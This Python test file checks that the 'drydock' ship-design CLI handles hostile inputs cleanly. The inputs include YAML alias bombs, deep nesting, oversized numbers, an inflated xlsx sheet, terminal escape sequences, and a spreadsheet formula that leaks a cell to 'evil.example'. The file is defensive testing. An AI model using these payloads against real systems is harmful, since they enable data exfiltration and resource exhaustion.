"""Regression tests for every hostile-input case named in issue 10, through the CLI.

Each case runs ``drydock`` in a child process with memory and CPU limits
(:mod:`tests.hostile.child`) and checks the exit code, that stderr holds one clean line
per failure (no traceback, no raw control characters) and that the case ends fast.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.helpers import ROOT
from tests.hostile.child import run_cli

GOOD = (ROOT / "examples/designs/comet-frigate.yaml").read_text()
AE_GOOD = (ROOT / "tests/fixtures/legacy/dumbo-v1.txt").read_text()
NOVA_GOOD = (ROOT / "tests/fixtures/legacy/nova-majestic-typed.txt").read_text()
WEAPON = "weapons:\n  - {name: Gun, range: 4-8-12, stats: 1x5+/1/1, banks: [AB]}\n"


def _yaml(body: str) -> str:
    return "class: Hostile\n" + body


def _alias_bomb() -> str:
    lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    prev = "a"
    for name in "bcdefghi":
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
        prev = name
    return "hull: 4\nnotes:\n  " + "\n  ".join(lines) + "\n"


def _xlsx_with(tmp: Path, edit: Callable[[object], None]) -> bytes:
    """The comet frigate as a workbook, with ``edit(workbook)`` applied."""
    from openpyxl import load_workbook

    from drydock.formats.excel.write import to_xlsx
    from drydock.formats.native import from_yaml

    wb = load_workbook(io.BytesIO(to_xlsx(from_yaml(GOOD))))
    edit(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _xlsx_hull(tmp: Path) -> bytes:
    def edit(wb) -> None:  # type: ignore[no-untyped-def]
        wb["SHIP1"]["B8"] = 1e18
    return _xlsx_with(tmp, edit)


def _xlsx_big_ignored_sheet(tmp: Path) -> bytes:
    """A workbook whose Drake sheet (which drydock ignores) holds 80 MB of inline text, zipped to ~100 KB."""
    base = _xlsx_with(tmp, lambda wb: None)
    zin = zipfile.ZipFile(io.BytesIO(base))
    names = zin.namelist()
    ship = {n for n in names if n.startswith("xl/worksheets/sheet")}
    # the last worksheet part is not SHIP1 or Weapons in the drydock layout: replace one that is ignored
    from openpyxl import load_workbook
    wb = load_workbook(io.BytesIO(base))
    ignored_index = next(i for i, n in enumerate(wb.sheetnames) if not n.startswith("SHIP") and n != "Weapons")
    target = f"xl/worksheets/sheet{ignored_index + 1}.xml"
    assert target in ship
    row = '<c r="A{r}" t="inlineStr"><is><t>' + "x" * 30000 + "</t></is></c>"
    body = "".join(f'<row r="{r}">' + row.format(r=r) + "</row>" for r in range(1, 2700))
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main"><sheetData>' + body + "</sheetData></worksheet>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for n in names:
            zout.writestr(n, sheet if n == target else zin.read(n))
    return out.getvalue()


# (id, files {name: text | bytes | builder(tmp)}, argv, expected exit code, stdin)
CASES: list[tuple[str, dict, list[str], int, bytes | None]] = [
    ("hull-negative", {"d.yaml": _yaml("hull: -1\n" + WEAPON)}, ["rate", "d.yaml"], 0, None),
    ("int-5000-digits", {"d.yaml": _yaml("hull: " + "9" * 5000 + "\n")}, ["rate", "d.yaml"], 1, None),
    ("hull-4000-digits", {"d.yaml": _yaml("hull: " + "7" * 4000 + "\n" + WEAPON)}, ["rate", "d.yaml"], 1, None),
    ("dmg-400-digits", {"d.yaml": _yaml("hull: 4\nweapons:\n  - {name: Gun, range: 4-8-12, stats: 1x5+/1/"
                                        + "9" * 400 + ", banks: [AB]}\n")}, ["rate", "d.yaml"], 1, None),
    ("stats-5000-digits", {"d.yaml": _yaml("hull: 4\nweapons:\n  - {name: Gun, range: 4-8-12, stats: '1x5+/1/"
                                           + "9" * 5000 + "', banks: [AB]}\n")}, ["rate", "d.yaml"], 1, None),
    ("nova-separator-line", {"in/n.txt": NOVA_GOOD + "\r|\n"}, ["convert", "--from", "nova", "in", "-o", "out"],
     0, None),
    ("self-alias", {"d.yaml": _yaml("hull: 4\nnotes: &a [*a]\n")}, ["rate", "d.yaml"], 1, None),
    ("deep-nesting", {"d.yaml": _yaml("hull: 4\nnotes: " + "[" * 5000 + "]" * 5000 + "\n")},
     ["rate", "d.yaml"], 1, None),
    ("deep-nesting-json", {"d.json": '{"hull": 4, "notes": ' + "[" * 100000 + "]" * 100000 + "}"},
     ["rate", "d.json"], 1, None),
    ("alias-bomb", {"d.yaml": _yaml(_alias_bomb())}, ["rate", "d.yaml"], 1, None),
    ("hull-1e8", {"d.yaml": _yaml("hull: 100000000\n")}, ["rate", "d.yaml"], 1, None),
    ("marines-1e10", {"d.yaml": _yaml("hull: 4\nsystems: [{name: Marines, qty: 10000000000}]\n")},
     ["rate", "d.yaml"], 1, None),
    ("bank-1e10", {"d.yaml": _yaml("hull: 4\nweapons:\n  - {name: Gun, range: 4-8-12, stats: 1x5+/1/1, "
                                   "banks: [10000000000AB]}\n")}, ["rate", "d.yaml"], 1, None),
    ("screens-1e12", {"d.yaml": _yaml("hull: 4\nscreens: 1000000000000\n")}, ["rate", "d.yaml"], 1, None),
    ("xlsx-hull-1e18", {"d.xlsx": _xlsx_hull}, ["rate", "d.xlsx"], 1, None),
    ("xlsx-80MB-ignored-sheet", {"d.xlsx": _xlsx_big_ignored_sheet}, ["rate", "d.xlsx"], 0, None),
    ("ae-marines-1e12", {"in/a.txt": AE_GOOD.replace("Marines (14)", "Marines (1000000000000)")},
     ["convert", "--from", "admiralty", "in", "-o", "out"], 1, None),
    ("nova-hull-1e12", {"in/n.txt": NOVA_GOOD.replace("HULL: 14", "HULL: 1000000000000")},
     ["convert", "--from", "nova", "in", "-o", "out"], 1, None),
    ("nova-80KB-class-line", {"in/n.txt": "NAME:\n" + "a" * 80_000 + "-class\n"},
     ["convert", "--from", "nova", "in", "-o", "out"], 1, None),
    ("ae-sonic-slash", {"in/a.txt": AE_GOOD.replace("Sonic Cannon", "Sonic // Cannon"), "in/b.txt": AE_GOOD},
     ["convert", "--from", "admiralty", "in", "-o", "out"], 1, None),
    ("collision-stems", {"d1/a.txt": AE_GOOD, "d1/a-2.txt": AE_GOOD, "d2/a.txt": AE_GOOD},
     ["convert", "--from", "admiralty", "d1/a.txt", "d1/a-2.txt", "d2/a.txt", "-o", "out", "--force"], 0, None),
    ("collision-report", {"dumbo.txt": AE_GOOD}, ["convert", "--from", "admiralty", "dumbo.txt", "-o", "out",
                                                  "--report", "dumbo.drake", "--force"], 2, None),
    ("collision-battle-log", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--log", "m.yaml", "--force",
                                                "--runs", "1"], 2, None),
    ("collision-ssd-html", {"m.yaml": GOOD}, ["ssd", "m.yaml", "-o", "x.pdf", "--html", "x.pdf", "--force"], 2, None),
    ("collision-convert-dir", {"a/x.yaml": GOOD, "b/x.yaml": GOOD}, ["convert", "a", "b", "-o", "out/", "--to",
                                                                     "json", "--force"], 2, None),
    ("fleet-count-1e12", {"m.yaml": GOOD, "f.yaml": "fleet: F\nships:\n  - design: m.yaml\n    count: 1000000000000\n"},
     ["rate", "f.yaml"], 1, None),
    ("fleet-alias-bomb", {"f.yaml": "fleet: F\nships: []\n" + _alias_bomb().replace("hull: 4\nnotes:", "x:")},
     ["rate", "f.yaml"], 1, None),
    ("library-alias-bomb", {"lib.yaml": "profiles: []\n" + _alias_bomb().replace("hull: 4\nnotes:", "x:"),
                            "d.yaml": "class: L\nhull: 4\nlibrary: [lib.yaml]\n"
                                      "weapons:\n  - {use: Gun, banks: [AB]}\n"},
     ["rate", "d.yaml"], 1, None),
    ("long-output-name", {"m.yaml": GOOD}, ["convert", "m.yaml", "-o", "n" * 250 + ".json"], 0, None),
    ("battle-crowded-board", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--count-a", "50", "--count-b",
                                                "50", "--board", "8x8", "--runs", "1"], 2, None),
    ("battle-huge-board", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--board", "1000000x1000000"], 2, None),
    ("battle-1e9-runs", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--runs", "1000000000"], 2, None),
    ("battle-1000-jobs", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--jobs", "1000"], 2, None),
    ("battle-10000-ships", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--count-a", "10000"], 2, None),
    ("stdin-invalid-utf8", {}, ["rate", "-"], 1, b"class: \xff\xfe\nhull: 4\n"),
    ("yaml-control-char", {"d.yaml": "class: \x1b[31mred\x07\nhull: 4\n"}, ["rate", "d.yaml"], 1, None),
    ("yaml-10MB-line", {"d.yaml": "class: [" + "x" * 10_000_000 + "\n"}, ["rate", "d.yaml"], 1, None),
    ("xlsx-bad-xml", {"d.xlsx": lambda tmp: _zip({"[Content_Types].xml": "<x", "xl/workbook.xml": "<"})},
     ["rate", "d.xlsx"], 1, None),
    ("terminal-escape-name", {"d.yaml": "class: \"\\e]0;pwned\\a\\e[2J\"\nhull: 4\n"}, ["rate", "d.yaml"], 0, None),
]


def _zip(members: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for n, t in members.items():
            z.writestr(n, t)
    return out.getvalue()


def _make(tmp: Path, files: dict) -> None:
    for name, content in files.items():
        p = tmp / name
        p.parent.mkdir(parents=True, exist_ok=True)
        data = content(tmp) if callable(content) else content
        if isinstance(data, str):
            p.write_text(data, encoding="utf-8")
        else:
            p.write_bytes(data)


@pytest.mark.parametrize(("files", "argv", "code", "stdin"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_hostile_case(tmp_path: Path, files: dict, argv: list[str], code: int | None, stdin: bytes | None) -> None:
    _make(tmp_path, files)
    run = run_cli(argv, cwd=tmp_path, stdin=stdin)
    assert run.clean(), run.stderr[-2000:]
    assert run.seconds < 60
    if code is not None:
        assert run.code == code, (run.code, run.stderr[-2000:])
    else:
        assert run.code in (0, 1, 2), (run.code, run.stderr[-2000:])
    if code == 2:
        assert len(run.err_lines) == 1 and run.err_lines[0].startswith("drydock: error: "), run.err_lines


def test_hostile_case_sizes_are_checked_for_every_case() -> None:
    assert len(CASES) >= 30 and len({c[0] for c in CASES}) == len(CASES)


def test_endless_input_is_refused_as_a_device(tmp_path: Path) -> None:
    (tmp_path / "z.yaml").symlink_to("/dev/zero")  # issue 27: refused by what it is, before a byte is read
    run = run_cli(["rate", "z.yaml"], cwd=tmp_path)
    assert run.code == 1 and run.clean() and run.seconds < 30
    assert "z.yaml: a device, not a file" in run.stderr


def test_stdin_is_decoded_like_a_file(tmp_path: Path) -> None:
    bad = b"class: \xff\nhull: 4\n"
    (tmp_path / "bad.yaml").write_bytes(bad)
    from_file = run_cli(["rate", "bad.yaml"], cwd=tmp_path)
    from_stdin = run_cli(["rate", "-"], cwd=tmp_path, stdin=bad)
    assert from_file.code == from_stdin.code == 1
    assert from_file.stderr.replace("bad.yaml", "X") == from_stdin.stderr.replace("<stdin>", "X")
    assert "not a UTF-8 text file" in from_stdin.stderr


def test_nova_title_formula_is_inert_in_the_csv_report(tmp_path: Path) -> None:
    title = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
    _make(tmp_path, {"in/n.txt": NOVA_GOOD.replace("Imperial MAJESTIC", title + " MAJESTIC")})
    run = run_cli(["convert", "--from", "nova", "in", "-o", "out", "--report", "r.csv"], cwd=tmp_path)
    assert run.clean(), run.stderr
    import csv
    rows = list(csv.DictReader((tmp_path / "out/r.csv").open(encoding="utf-8")))
    assert rows, (tmp_path / "out/r.csv").read_text()
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_terminal_escapes_in_names_are_shown_not_sent(tmp_path: Path) -> None:
    _make(tmp_path, {"d.yaml": 'class: "\\e]0;pwned\\a\\e[2J"\nhull: 4\n'})
    run = run_cli(["rate", "d.yaml"], cwd=tmp_path)
    assert run.code == 0 and "\x1b" not in run.stdout and "\x07" not in run.stdout
    assert "\\x1b]0;pwned" in run.stdout.lower()


def test_closed_stdout_pipe_is_a_quiet_success(tmp_path: Path) -> None:
    import subprocess
    import sys

    (tmp_path / "many.yaml").write_text("\n---\n".join([GOOD] * 60), encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "drydock", "rate", "many.yaml"], cwd=tmp_path,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout is not None
    proc.stdout.readline()
    proc.stdout.close()
    err = proc.stderr.read() if proc.stderr else b""
    assert proc.wait(timeout=60) == 0
    assert err == b""


def test_ctrl_c_during_a_parallel_battle_is_one_line_and_exit_130(tmp_path: Path) -> None:
    import os
    import signal
    import subprocess
    import sys
    import time

    (tmp_path / "m.yaml").write_text(GOOD, encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "drydock", "battle", "m.yaml", "m.yaml", "--jobs", "2",
                             "--runs", "200000", "--json"], cwd=tmp_path, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, start_new_session=True)
    time.sleep(3)
    os.killpg(proc.pid, signal.SIGINT)  # the terminal sends SIGINT to the whole process group
    _out, err = proc.communicate(timeout=60)
    assert proc.returncode == 130
    assert err.decode().strip().splitlines() == ["drydock: interrupted"]


def test_internal_error_is_one_line_exit_3_and_traceback_only_with_debug(tmp_path: Path, monkeypatch) -> None:
    from click.testing import CliRunner

    import drydock.insight.rate_files
    from drydock.cli.main import _DEBUG, cli

    def boom(*args, **kwargs):  # type: ignore[no-untyped-def]
        raise RuntimeError("simulated bug")

    (tmp_path / "m.yaml").write_text(GOOD, encoding="utf-8")
    monkeypatch.setattr(drydock.insight.rate_files, "rate_design", boom)
    monkeypatch.setitem(_DEBUG, "on", False)
    result = CliRunner().invoke(cli, ["rate", str(tmp_path / "m.yaml")])
    assert result.exit_code == 3
    lines = result.output.strip().splitlines()
    assert lines == ["drydock: internal error, please report (rerun with --debug for the traceback): "
                     "RuntimeError: simulated bug"]
    result = CliRunner().invoke(cli, ["--debug", "rate", str(tmp_path / "m.yaml")])
    assert result.exit_code == 3 and "Traceback" in result.output


def test_public_api_wrong_types_and_values() -> None:
    import drydock
    from drydock.formats.native import from_yaml

    for bad in (None, "hull: 4", 3, {"hull": 4}):
        with pytest.raises(TypeError, match="expected a drydock.Design"):
            drydock.rate(bad)  # type: ignore[arg-type]
        with pytest.raises(TypeError, match="expected a drydock.Design"):
            drydock.validate(bad)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="rules must be"):
        drydock.rate(from_yaml("class: X\nhull: 4\n")[0], rules="unity")  # type: ignore[arg-type]
    with pytest.raises(drydock.DrydockError, match="Design.hull"):
        drydock.Design(hull="four")
    with pytest.raises(drydock.DrydockError, match="Battery.name"):
        drydock.Design(hull=4, weapons=[{"name": 3}])
    with pytest.raises(drydock.DrydockError, match="past drydock's limit"):
        drydock.rate(drydock.Design(hull=10**9))
    with pytest.raises(TypeError):
        from_yaml(b"hull: 4")  # type: ignore[arg-type]


def test_readme_lists_every_limit_with_its_value() -> None:
    from drydock import limits

    page = (ROOT / "docs" / "limits.md").read_text(encoding="utf-8")  # the manual's page (was the README's section)
    for name, value, _reason in limits.table():
        assert f"| {name} | {value:,} |" in page, name


def test_same_stems_from_different_folders_give_distinct_outputs(tmp_path: Path) -> None:
    _make(tmp_path, {"d1/a.txt": AE_GOOD, "d1/a-2.txt": AE_GOOD, "d2/a.txt": AE_GOOD})
    run = run_cli(["convert", "--from", "admiralty", "d1/a.txt", "d1/a-2.txt", "d2/a.txt", "-o", "out", "--force"],
                  cwd=tmp_path)
    assert run.code == 0, run.stderr
    assert sorted(p.name for p in (tmp_path / "out").glob("*.drake")) == ["a-2.drake", "a-3.drake", "a.drake"]


def _sigint_disposition(_: int) -> object:
    import signal

    return signal.getsignal(signal.SIGINT)


def _no_setup() -> None:
    return None


def test_pool_workers_ignore_ctrl_c_from_their_first_instruction() -> None:
    """SIGINT is blocked while the pool forks its workers (a worker killed by an early Ctrl-C used to be replaced,
    leaving the battle running); the workers ignore it, and the parent's signal mask is restored."""
    import signal

    from drydock.engine.parallel import worker_pool

    with worker_pool(2, _no_setup, ()) as pool:
        assert set(pool.map(_sigint_disposition, range(8))) == {signal.SIG_IGN}
    assert signal.SIGINT not in signal.pthread_sigmask(signal.SIG_BLOCK, set())
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler
